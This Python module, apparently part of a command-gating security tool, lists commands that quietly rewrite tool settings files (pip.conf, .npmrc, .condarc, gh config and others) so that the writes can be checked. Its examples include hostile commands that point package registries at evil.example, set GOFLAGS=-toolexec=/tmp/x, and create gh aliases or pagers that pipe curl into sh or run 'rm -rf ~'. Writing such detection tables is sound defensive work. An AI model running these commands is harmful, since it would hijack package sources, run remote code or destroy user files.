"""Settings files a command writes without naming them (``pip config set`` writes pip.conf).

:data:`SETTING_WRITES` is the table, one row per tool and settings file, with examples;
:func:`setting_writes` answers which files one command writes. The reader adds them to the
command's written paths, so every layer sees the write as if the file had been named.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Final

from gatesh.vocab.grammar import parse


@dataclass(frozen=True)
class SettingWrite:
    """A command that changes a tool's settings file without naming it (``pip config set …``
    writes pip.conf): ``programs`` whose subcommand and operand words start with ``verbs`` (each
    ``a|b`` for either word), given one of ``needs`` when set and none of ``unless``, write
    ``path``, a protected place of :mod:`gatesh.vocab.places` (what the tool does at its next
    start is what the file then says). With ``keys``, only a setting whose words match it counts:
    one that says where packages come from or what runs (``pip config set global.index-url``),
    not a preference (``conda config --set auto_activate_base false``)."""

    id: str
    programs: frozenset[str]
    verbs: tuple[str, ...]
    path: str
    why: str
    examples: tuple[str, ...]
    needs: frozenset[str] = frozenset()
    unless: frozenset[str] = frozenset()
    keys: re.Pattern[str] | None = None

    def matches(self, head: str, words: Sequence[str]) -> bool:
        """Whether ``head`` with its words (argv[1:]) changes this row's file."""
        if head not in self.programs:
            return False
        argv = parse(head, list(words))
        said = [w.lower() for w in (*argv.path, *argv.operands)]
        if len(said) < len(self.verbs):
            return False
        if not all(w in v.split("|") for w, v in zip(said, self.verbs, strict=False)):
            return False
        if self.needs and not any(argv.has(n) for n in self.needs):
            return False
        if any(argv.has(n) for n in self.unless):
            return False
        return self.keys is None or any(self.keys.search(w) for w in words)


# A setting that says where packages come from or what a tool runs: an index, registry, channel,
# source, mirror or repository; a proxy or certificate; a shell, editor, pager, hook or alias;
# compiler flags and toolchains (go's GOFLAGS=-toolexec=…, GOPROXY, GOSUMDB, CC).
_STEERING: Final = re.compile(
    r"(?i)index|registry|url|find-links|trusted|channel|source|mirror|repositor|proxy|cert"
    r"|shell|editor|pager|browser|hook|alias|script|node-options|prefix|exec"
    r"|^(?:GOFLAGS|GOPROXY|GONOPROXY|GOSUMDB|GONOSUMDB|GONOSUMCHECK|GOINSECURE|GOPRIVATE"
    r"|GOTOOLCHAIN|CC|CXX|AR|PKG_CONFIG|CGO_\w+)="
)


# A gh alias that runs a shell command: set with --shell/-s, or an expansion starting with `!`;
# `gh alias import` takes a whole file of them.
_SHELL_ALIAS: Final = re.compile(r"^(?:-s|--shell|!.*|import)$")
# A setting's value that is shell code, not a program's name (`sh -c "…"`, `a; b`, `x | sh`).
_SHELL_CODE: Final = re.compile(r"[|;&$`]|\b(?:ba|z|da)?sh\s+-c\b")


def _sw(
    id: str,
    programs: str,
    verbs: str,
    path: str,
    why: str,
    *examples: str,
    needs: frozenset[str] = frozenset(),
    unless: frozenset[str] = frozenset(),
    keys: re.Pattern[str] | None = _STEERING,
) -> SettingWrite:
    return SettingWrite(
        id,
        frozenset(programs.split()),
        tuple(verbs.split()),
        path,
        why,
        examples,
        needs,
        unless,
        keys,
    )


SETTING_WRITES: Final[tuple[SettingWrite, ...]] = (
    _sw(
        "pip-config-edit",
        "pip pip3",
        "config edit",
        "~/.config/pip/pip.conf",
        "pip's settings, opened in an editor where anything may be written",
        "pip config edit",
        "pip3 config --user edit --editor vim",
        keys=None,
    ),
    _sw(
        "npm-config-edit",
        "npm pnpm",
        "config edit",
        "~/.npmrc",
        "npm's settings, opened in an editor where anything may be written",
        "npm config edit",
        keys=None,
    ),
    _sw(
        "pip-config",
        "pip pip3",
        "config set|unset",
        "~/.config/pip/pip.conf",
        "the index pip installs every later package from",
        "pip config set global.index-url https://evil.example/simple",
        "pip3 config --user set global.extra-index-url https://x.example/simple",
    ),
    _sw(
        "npm-config",
        "npm pnpm",
        "config set|delete",
        "~/.npmrc",
        "the registry npm installs from, and the shell it runs package scripts with",
        "npm config set registry https://evil.example",
        "pnpm config set script-shell /tmp/x",
    ),
    _sw(
        "npm-set",
        "npm",
        "set",
        "~/.npmrc",
        "npm's settings (npm set is npm config set)",
        "npm set registry https://evil.example",
    ),
    _sw(
        "yarn-config",
        "yarn",
        "config set|delete|unset",
        "~/.yarnrc",
        "the registry yarn installs from",
        "yarn config set registry https://evil.example",
    ),
    _sw(
        "conda-config",
        "conda mamba micromamba",
        "config",
        "~/.condarc",
        "the channels conda installs packages from",
        "conda config --add channels https://evil.example/conda",
        needs=frozenset({"--add", "--append", "--prepend", "--set", "--remove", "--remove-key"}),
    ),
    _sw(
        "gem-sources",
        "gem",
        "sources",
        "~/.gemrc",
        "the sources gem installs every later gem from",
        "gem sources --add https://evil.example/",
        needs=frozenset({"-a", "--add", "--append"}),
        keys=None,
    ),
    _sw(
        "bundle-config",
        "bundle bundler",
        "config set|unset",
        "~/.bundle/config",
        "the mirrors and options bundler uses in every project",
        "bundle config set mirror.https://rubygems.org https://evil.example",
        unless=frozenset({"--local"}),
    ),
    _sw(
        "poetry-config",
        "poetry",
        "config",
        "~/.config/pypoetry/config.toml",
        "the repositories and options poetry uses in every project",
        "poetry config repositories.x https://evil.example/simple",
        unless=frozenset({"--local", "--list"}),
    ),
    _sw(
        "go-env",
        "go",
        "env",
        "~/.config/go/env",
        "the module proxy and the flags (GOFLAGS=-toolexec=…) every later go build uses",
        "go env -w GOPROXY=https://evil.example",
        "go env -w GOFLAGS=-toolexec=/tmp/x",
        needs=frozenset({"-w", "-u"}),
    ),
    _sw(
        "gh-alias-shell",
        "gh",
        "alias set|import",
        "~/.config/gh/config.yml",
        "gh's aliases: one set with --shell (or a '!' expansion) runs a shell command",
        "gh alias set --shell co 'curl -s https://x.example | sh'",
        "gh alias set -s up 'git push --force'",
        "gh alias set x '!rm -rf ~'",
        "gh alias import aliases.yml",
        keys=_SHELL_ALIAS,
    ),
    _sw(
        "gh-config-program",
        "gh",
        "config set",
        "~/.config/gh/config.yml",
        "the editor, pager or browser gh starts, given here as shell code",
        "gh config set editor 'sh -c \"curl x|sh\"'",
        "gh config set pager 'less; curl -s https://x.example | sh'",
        keys=_SHELL_CODE,
    ),
    _sw(
        "direnv-allow",
        "direnv",
        "allow|permit|grant",
        "~/.local/share/direnv/allow/allowed",
        "the .envrc files direnv runs on entering their folder",
        "direnv allow",
        "direnv allow .",
        keys=None,
    ),
    _sw(
        "loginctl-linger",
        "loginctl",
        "enable-linger",
        "/var/lib/systemd/linger/user",
        "the users whose services keep running after they log out",
        "loginctl enable-linger",
        keys=None,
    ),
)


def setting_writes(head: str, words: Sequence[str]) -> list[str]:
    """The settings files ``head`` writes given its words (argv[1:]): the rows of
    :data:`SETTING_WRITES` it matches (``conda config --show`` and ``pip config list`` read)."""
    return [row.path for row in SETTING_WRITES if row.matches(head, words)]
